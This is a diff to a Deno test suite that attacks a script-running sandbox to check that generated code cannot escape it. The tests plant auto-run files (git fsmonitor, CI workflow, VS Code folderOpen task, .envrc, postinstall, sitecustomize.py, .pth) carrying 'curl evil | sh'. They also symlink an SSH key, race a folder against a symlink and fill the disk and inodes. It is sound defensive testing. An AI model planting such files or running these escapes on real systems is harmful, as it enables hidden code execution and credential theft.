@@ -54,6 +54,7 @@ await Deno.mkdir(join(PROJECT, ".git", "hooks"), { recursive: true });
 await Deno.writeTextFile(join(PROJECT, ".git", "config"), "[core]\n");
 await Deno.writeTextFile(join(PROJECT, "data", "in.txt"), "input data\n");
 await Deno.symlink(join(OTHER, "secret.txt"), join(PROJECT, "data", "link.txt"));
+await Deno.mkdir(join(PROJECT, "nested-repo", ".git"), { recursive: true });
 
 let serviceHits = 0;
 const service = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
@@ -108,12 +109,13 @@ printf '{"status":"ok","artifacts":[],"output":{"breached":%s,"detail":"%s"},"ra
 function ts(body: string): string {
   return `let breached = false;
 let detail = "";
+let artifacts: string[] = [];
 try {
 ${body}
 } catch (error) {
   detail = "blocked: " + String(error).slice(0, 300);
 }
-console.log(JSON.stringify({ status: "ok", artifacts: [], output: { breached, detail }, raw: {} }));
+console.log(JSON.stringify({ status: "ok", artifacts, output: { breached, detail }, raw: {} }));
 `;
 }
 
@@ -775,16 +777,11 @@ attack({
   osLayer: true,
   context: { output: "linked/result.txt" },
   before: async () => {
-    await capibaraFor({
-      name: "plant symlinks",
-      language: "python",
-      script: py(`os.makedirs("linked", exist_ok=True)
-os.symlink(${JSON.stringify(SSH_KEY)}, "linked/key")
-os.symlink(${JSON.stringify(OTHER)}, "linked/other")`),
-    }).run("escape test: plant symlinks in an output folder", {
-      context: { output: "linked/result.txt" },
-      language: "python",
-    });
+    // Planted on the host: copy-out no longer lets a run plant a symlink in the project, but a
+    // cloned repository can carry one.
+    await Deno.mkdir(LINKED, { recursive: true });
+    await Deno.symlink(SSH_KEY, join(LINKED, "key"));
+    await Deno.symlink(OTHER, join(LINKED, "other"));
     assert.ok((await Deno.lstat(join(LINKED, "key"))).isSymlink, "the first run planted nothing");
   },
   script: ts(`try {
@@ -968,6 +965,314 @@ breached = (await r.text()).includes("private service");`),
   });
 }
 
+// --- copy-out: outputs are staged, and only safe reported files reach the project --------------
+for (
+  const [name, context] of [
+    ["an output folder at the project root", { output: "./" }],
+    ["an output file's folder the project root, named as a folder", { out_dir: "." }],
+    ["an output inside .capibara/scripts/", { output: ".capibara/scripts/x/script.py" }],
+    ["an output inside .git/", { output: ".git/hooks/pre-commit" }],
+    ["an output folder that holds .git/", { output: join(PROJECT, "nested-repo") + "/" }],
+  ] as const
+) {
+  for (
+    const [language, script] of [
+      ["python", py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`)],
+      ["bash", sh(`echo ran > ${ranMarker} && breached=1`)],
+      [
+        "typescript",
+        ts(`Deno.writeTextFileSync(${JSON.stringify(ranMarker)}, "ran"); breached = true;`),
+      ],
+    ] as const
+  ) {
+    attack({
+      name: `refused before running: ${name}`,
+      language,
+      context,
+      script,
+      blockedBy: [ValidationError],
+      hostUnchanged: neverRan,
+    });
+  }
+}
+
+/** Files tools run or trust, planted under an output folder (relative to it). */
+const PLANTS: Record<string, string> = {
+  ".git/config": "[core]\n\tfsmonitor = touch /tmp/capibara-owned\n",
+  ".github/workflows/ci.yml":
+    "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
+  ".vscode/tasks.json":
+    '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
+  ".envrc": "curl evil | sh\n",
+  ".bashrc": "curl evil | sh\n",
+  "Makefile": "all:\n\tcurl evil | sh\n",
+  "package.json": '{"scripts": {"postinstall": "curl evil | sh"}}\n',
+  "conftest.py": "import os; os.system('curl evil | sh')\n",
+  "sitecustomize.py": "import os; os.system('curl evil | sh')\n",
+  "evil.pth": "import os; os.system('curl evil | sh')\n",
+  "sub/.capibara/config.json": '{"allow": {"env": ["SECRET_TOKEN"]}}\n',
+};
+const plantedNowhere = async () => {
+  for (const rel of Object.keys(PLANTS)) {
+    assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
+  }
+};
+/** Runs a host-side check, then empties out/ so that a breach does not spill into later attacks. */
+function thenCleanOut(check: () => Promise<void>): () => Promise<void> {
+  return async () => {
+    try {
+      await check();
+    } finally {
+      await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
+    }
+  };
+}
+for (const reported of [true, false]) {
+  const how = reported ? "reported as artifacts" : "not reported";
+  const files = JSON.stringify(PLANTS);
+  attack({
+    name: `plant files tools run or trust under out/ (${how})`,
+    language: "python",
+    context: { output: "out/" },
+    script: py(`for rel, text in json.loads(${JSON.stringify(files)}).items():
+    path = os.path.join(ctx["output"], rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    open(path, "w").write(text)
+    ${reported ? 'artifacts.append("out/" + rel)' : "pass"}
+open("out/fine.txt", "w").write("fine")
+artifacts.append("out/fine.txt")
+detail = "planted"  # the script cannot tell from inside whether they reach the project`),
+    blockedBy: [ExecError],
+    hostUnchanged: thenCleanOut(async () => {
+      await plantedNowhere();
+      // Not reported: the legitimate file is moved, the planted ones are not.
+      if (!reported && !NO_SANDBOX) {
+        assert.equal(await Deno.readTextFile(join(PROJECT, "out", "fine.txt")), "fine");
+      }
+    }),
+  });
+}
+attack({
+  name: "plant files tools run or trust under out/ (reported as artifacts)",
+  language: "bash",
+  context: { output: "out/" },
+  script: sh(`mkdir -p out/.git out/.vscode out/sub/.capibara && \\
+printf '[core]\\n\\tfsmonitor = evil\\n' > out/.git/config && echo '{}' > out/.vscode/tasks.json && \\
+echo 'curl evil | sh' > out/.envrc && echo '{}' > out/sub/.capibara/config.json && \\
+echo 'all:' > out/Makefile && echo fine > out/fine.txt && detail=planted
+printf '{"status":"ok","artifacts":["out/.git/config","out/.vscode/tasks.json","out/.envrc","out/sub/.capibara/config.json","out/Makefile","out/fine.txt"],"output":{"breached":false},"raw":{}}\\n'
+exit 0`),
+  blockedBy: [ExecError],
+  hostUnchanged: thenCleanOut(async () => {
+    for (const rel of [".git", ".vscode", ".envrc", "sub", "Makefile", "fine.txt"]) {
+      assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
+    }
+  }),
+});
+attack({
+  name: "report a symlink, a FIFO and a link to a host folder as artifacts",
+  language: "python",
+  context: { output: "out/" },
+  script: py(`os.symlink(${JSON.stringify(join(OTHER, "secret.txt"))}, "out/secret-link.txt")
+os.symlink(${JSON.stringify(OTHER)}, "out/other")
+os.mkfifo("out/pipe")
+artifacts = ["out/secret-link.txt", "out/other/secret.txt", "out/pipe"]
+detail = "planted links"`),
+  blockedBy: [ExecError],
+  hostUnchanged: thenCleanOut(async () => {
+    for (const rel of ["secret-link.txt", "other", "pipe"]) {
+      assert.equal(
+        await exists(join(PROJECT, "out", rel)),
+        false,
+        `out/${rel} reached the project`,
+      );
+    }
+  }),
+});
+
+// Two runs at once: one swaps out/race between a folder and a symlink to another project while
+// the other writes into out/race/. No host folder may become writable, nor receive a file.
+suite.push({
+  name: "escape: python: two runs race an output folder against a symlink to a host folder",
+  ignore: !OS_SANDBOX,
+  sanitizeOps: false,
+  sanitizeResources: false,
+  async fn() {
+    const runner = (name: string, script: string) =>
+      new Capibara({
+        root: PROJECT,
+        cwd: PROJECT,
+        cacheDir: CACHE,
+        generator: fixedGenerator({
+          language: "python",
+          script,
+          requirements: [],
+          outputs: {},
+          aliases: {},
+          needs: { network: [], env: [] },
+          readme: "",
+        }),
+        env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME },
+        timeout: 30,
+        memoryBytes: 256 * 1024 ** 2,
+        sandbox: !NO_SANDBOX,
+        warn: () => {},
+      }).run(`escape test: race: ${name}`, {
+        context: name === "swapper" ? { output: "out/" } : { output: "out/race/" },
+        language: "python",
+      });
+    await Deno.mkdir(join(PROJECT, "out", "race"), { recursive: true });
+    const swapper = runner(
+      "swapper",
+      py(`import time, shutil
+end = time.time() + 3
+while time.time() < end:
+    try:
+        shutil.rmtree("out/race", ignore_errors=True)
+        os.symlink(${JSON.stringify(OTHER)}, "out/race")
+        time.sleep(0.001)
+        os.unlink("out/race")
+        os.mkdir("out/race")
+    except OSError as exc:
+        detail = repr(exc)
+artifacts = ["out/race"]`),
+    );
+    const writers = [0, 1, 2, 3].map((i) =>
+      runner(
+        `writer ${i}`,
+        py(`import time
+time.sleep(${0.3 + i * 0.5})
+for n in range(20):
+    try:
+        open(os.path.join(ctx["output"], f"raced-${i}-{n}.txt"), "w").write("raced")
+        artifacts.append(f"out/race/raced-${i}-{n}.txt")
+    except OSError as exc:
+        detail = repr(exc)
+    time.sleep(0.01)`),
+      )
+    );
+    const results = await Promise.allSettled([swapper, ...writers]);
+    const leaked = [...Deno.readDirSync(OTHER)].filter((e) => e.name.startsWith("raced-"));
+    const race = await Deno.lstat(join(PROJECT, "out", "race")).catch(() => null);
+    await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
+    for (const e of leaked) await Deno.remove(join(OTHER, e.name));
+    for (const r of results) {
+      if (r.status === "rejected") {
+        assert.ok(r.reason instanceof CapibaraError, `unexpected failure: ${r.reason}`);
+      }
+    }
+    assert.deepEqual(leaked.map((e) => e.name), [], "BREACH: a run wrote into another project");
+    assert.ok(!race?.isSymlink, "BREACH: a run left a symlink in the project");
+  },
+});
+
+// Disk: the staging area is bounded while the script runs (default 1 GiB and 10,000 files).
+const bigFile = join(PROJECT, "out", "big.bin");
+const notFilled = async () => {
+  const info = await Deno.stat(bigFile).catch(() => null);
+  await Deno.remove(bigFile).catch(() => {});
+  assert.ok(!info || info.size < 2 * 1024 ** 3, "2 GiB reached the project");
+};
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`chunk = b"x" * (16 * 1024 * 1024)
+with open("out/big.bin", "wb") as fh:
+    for _ in range(128):
+        fh.write(chunk)
+artifacts = ["out/big.bin"]
+breached = os.path.getsize("out/big.bin") >= 2 * 1024 ** 3
+detail = "wrote 2 GiB"`),
+    ],
+    [
+      "bash",
+      sh(`head -c 2147483648 /dev/zero > out/big.bin && breached=1
+detail="wrote 2 GiB"`),
+    ],
+    [
+      "typescript",
+      ts(`const chunk = new Uint8Array(16 * 1024 * 1024);
+const file = Deno.openSync("out/big.bin", { write: true, create: true });
+for (let i = 0; i < 128; i++) file.writeSync(chunk);
+file.close();
+breached = Deno.statSync("out/big.bin").size >= 2 * 1024 ** 3;`),
+    ],
+  ] as const
+) {
+  attack({
+    name: "fill the disk: 2 GiB under a 256 MiB memory limit",
+    language,
+    context: { output: "out/big.bin" },
+    timeout: 120,
+    script,
+    blockedBy: [ExecError],
+    hostUnchanged: notFilled,
+  });
+}
+const manyFiles = async () => {
+  let count = 0;
+  for await (const e of Deno.readDir(join(PROJECT, "out"))) {
+    if (e.name.startsWith("f-")) {
+      count++;
+      await Deno.remove(join(PROJECT, "out", e.name));
+    }
+  }
+  assert.ok(count < 100_000, `${count} files reached the project`);
+};
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`for i in range(100_000):
+    open(f"out/f-{i}", "w").close()
+breached = True
+detail = "created 100,000 files"`),
+    ],
+    [
+      "bash",
+      sh(`cd out && seq 1 100000 | sed 's/^/f-/' | xargs touch && breached=1
+detail="created 100,000 files"`),
+    ],
+  ] as const
+) {
+  attack({
+    name: "fill the inodes: 100,000 files",
+    language,
+    context: { output: "out/" },
+    timeout: 120,
+    script,
+    blockedBy: [ExecError],
+    hostUnchanged: manyFiles,
+  });
+}
+
+// Copy-out keeps the legitimate cases: a declared file at the top, and a report in a folder.
+attack({
+  name: "a declared output file at the top of the project is moved there",
+  language: "python",
+  context: { output: "top-report.txt" },
+  script: py(`open(ctx["output"], "w").write("top")
+artifacts = [ctx["output"]]
+detail = "wrote"`),
+  granted(o) {
+    assert.equal(o.detail, "wrote");
+    assert.equal(Deno.readTextFileSync(join(PROJECT, "top-report.txt")), "top");
+    Deno.removeSync(join(PROJECT, "top-report.txt"));
+  },
+});
+attack({
+  name: "a failed run leaves no output and no placeholder behind",
+  language: "python",
+  context: { output: "top-failed.txt" },
+  script: py(`open(ctx["output"], "w").write("partial")
+sys.stdout.flush()
+os._exit(3)`),
+  blockedBy: [ExecError],
+  hostUnchanged: async () =>
+    assert.equal(await exists(join(PROJECT, "top-failed.txt")), false, "a partial output stayed"),
+});
+
 // --- granted cases still work ------------------------------------------------------------------
 attack({
   name: "a granted write path works",
@@ -988,6 +1293,7 @@ attack({
   script: ts(`const text = Deno.readTextFileSync("data/in.txt");
 Deno.mkdirSync("out", { recursive: true });
 Deno.writeTextFileSync("out/copy.txt", text);
+artifacts = ["out/copy.txt"];
 detail = text.trim();`),
   granted(o) {
     assert.equal(o.detail, "input data");
